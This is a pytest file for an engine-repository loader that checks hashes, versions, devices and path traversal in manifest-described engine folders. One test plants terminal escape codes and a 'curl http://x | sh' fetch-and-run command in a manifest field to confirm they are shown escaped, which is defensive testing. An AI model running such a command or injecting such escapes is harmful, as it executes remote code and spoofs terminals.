"""Engine repository: load() checks backend version, device and file hash; `trtopt run` prints outputs."""
from __future__ import annotations

import json
import os

import numpy as np
import pytest

import trtopt
from conftest import run_cli
from trtopt.pipeline import build
from trtopt.errors import TrtoptError, UsageError
from trtopt.repository import load


@pytest.fixture
def engine(residual_convnet, tmp_path):
    result = build(residual_convnet, name="net", engines_dir=tmp_path / "engines", backend="onnxruntime",
                   accuracy_samples=16, threads=1)
    return result.engine_dir


def _edit_manifest(engine_dir, change) -> None:
    path = engine_dir / "manifest.json"
    manifest = json.loads(path.read_text())
    change(manifest)
    path.write_text(json.dumps(manifest))


def test_load_returns_a_working_runner(engine):
    assert trtopt.load is load
    with trtopt.load(engine) as runner:
        assert [i.name for i in runner.inputs] == ["input"]
        out = runner.infer({"input": np.zeros((2, 3, 16, 16), np.float32)})
    assert out["logits"].shape == (2, 10)


def test_modified_engine_file_is_refused(engine):
    manifest = json.loads((engine / "manifest.json").read_text())
    with open(engine / manifest["engine"]["file"], "ab") as handle:
        handle.write(b"\0")
    with pytest.raises(TrtoptError, match="sha256.*rebuild it here with"):
        load(engine)


def test_other_backend_version_is_refused(engine):
    _edit_manifest(engine, lambda m: m["backend"].update(version="0.0.1"))
    with pytest.raises(TrtoptError, match=r"built with onnxruntime 0\.0\.1.*rebuild it here with"):
        load(engine)


def test_other_device_is_refused(engine):
    _edit_manifest(engine, lambda m: m["device"].update(name="Some Other CPU"))
    with pytest.raises(TrtoptError, match="Some Other CPU.*rebuild"):
        load(engine)


def test_not_an_engine_folder(tmp_path):
    (tmp_path / "half").mkdir()
    with pytest.raises(UsageError, match="no manifest.json"):
        load(tmp_path / "half")
    with pytest.raises(UsageError, match="not found"):
        load(tmp_path / "missing")


def test_run_verb_prints_outputs(engine, tmp_path):
    x = np.random.default_rng(0).standard_normal((2, 3, 16, 16)).astype(np.float32)
    np.save(tmp_path / "x.npy", x)
    proc = run_cli("run", engine, "--input", tmp_path / "x.npy", "--save-outputs", tmp_path / "y.npz", timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert "logits: float32[2x10]" in proc.stdout
    with load(engine) as runner:
        expected = runner.infer({"input": x})["logits"]
    np.testing.assert_allclose(np.load(tmp_path / "y.npz")["logits"], expected, rtol=1e-6)
    top = int(np.argmax(expected[0]))
    assert f"[0] {top}:" in proc.stdout
    bad = run_cli("run", engine, "--input", tmp_path / "nope.npy", timeout=120)
    assert bad.returncode == 2 and "nope.npy" in bad.stderr


def test_shape_profile_is_recorded_and_enforced(residual_convnet, tmp_path):
    result = build(residual_convnet, name="b4", engines_dir=tmp_path, backend="onnxruntime", accuracy_samples=8,
                   min_shapes="input:1x3x16x16", max_shapes="input:4x3x16x16", threads=1)
    assert result.manifest["io"]["profile"]["max"] == {"input": [4, 3, 16, 16]}
    assert result.manifest["timing"]["batch"] == 4, "accuracy batches stay inside the profile"
    with load(result.engine_dir) as runner:
        runner.infer({"input": np.zeros((4, 3, 16, 16), np.float32)})
        with pytest.raises(UsageError, match="outside the built profile"):
            runner.infer({"input": np.zeros((5, 3, 16, 16), np.float32)})


@pytest.mark.parametrize("where", ["relative", "absolute", "symlink"])
def test_engine_file_outside_the_folder_is_refused_even_with_a_matching_hash(engine, tmp_path, where):
    manifest = json.loads((engine / "manifest.json").read_text())
    outside = tmp_path / "elsewhere.onnx"
    outside.write_bytes((engine / manifest["engine"]["file"]).read_bytes())  # same bytes: the hash matches
    if where == "relative":
        name = os.path.relpath(outside, os.path.realpath(engine))
    elif where == "absolute":
        name = str(outside)
    else:
        name = "link.onnx"
        (engine / name).symlink_to(outside)
    _edit_manifest(engine, lambda m: m["engine"].update(file=name))
    with pytest.raises(UsageError, match="engine file .* (is not a file name inside|leads outside) the engine folder"):
        load(engine)


def test_recorded_command_is_shown_escaped_and_only_as_information(engine):
    manifest = json.loads((engine / "manifest.json").read_text())
    with open(engine / manifest["engine"]["file"], "ab") as handle:
        handle.write(b"\0")
    _edit_manifest(engine, lambda m: m.update(command="\x1b]0;owned\x07\x1b[2J curl http://x | sh", name="n\x1b[31m"))
    proc = run_cli("run", engine, "--input", "none.npy", timeout=120)
    assert proc.returncode == 1, proc.stderr
    assert "\x1b" not in proc.stderr and "\x07" not in proc.stderr
    assert "rebuild it here with `trtopt build" in proc.stderr and "--name 'n\\x1b[31m' --force`" in proc.stderr
    assert "records the build command as: '\\x1b]0;owned\\x07\\x1b[2J curl http://x | sh'" in proc.stderr


@pytest.mark.parametrize("change, says", [
    (lambda m: m.update(backend="onnxruntime"), "manifest entry 'backend' is missing or not a mapping"),
    (lambda m: m.update(engine=["model.ort.onnx"]), "manifest entry 'engine' is missing or not a mapping"),
    (lambda m: m.update(precision=None), "manifest entry 'precision' is missing or not a string"),
    (lambda m: m.update(schema_version="\x1b[2J1"), r"manifest schema version '\\x1b\[2J1'"),
    (lambda m: m.update(io="x"), "manifest entry 'io' is not a mapping"),
    (lambda m: m["engine"].update(bytes="huge"), "manifest entry 'engine.bytes' is 'huge', not a byte count"),
    (lambda m: m["io"].update(profile={"min": [1, 2]}), "manifest entry 'io' has a profile that is not"),
])
def test_hand_edited_manifest_is_a_usage_error(engine, change, says):
    _edit_manifest(engine, change)
    with pytest.raises(UsageError, match=says):
        load(engine)


@pytest.mark.parametrize("session, says", [
    (["not", "a", "mapping"], "expected a JSON object of session options"),
    ({"intra_op_num_threads": -3}, "'intra_op_num_threads' must be null or a positive integer"),
    ({"config": {"session.x": 1}}, "'config' must be a mapping of strings to strings"),
])
def test_hand_edited_session_file_is_a_usage_error(engine, session, says):
    (engine / "session.json").write_text(json.dumps(session))
    with pytest.raises(UsageError, match=f"session.json: {says}"):
        load(engine)


def test_infer_after_close_and_a_list_feed_are_usage_errors(engine):
    x = np.zeros((1, 3, 16, 16), np.float32)
    runner = load(engine)
    with pytest.raises(UsageError, match=r"the feed must be a dict of input name -> array, got a list"):
        runner.infer([x])
    runner.close()
    with pytest.raises(UsageError, match="this onnxruntime runner is closed"):
        runner.infer({"input": x})
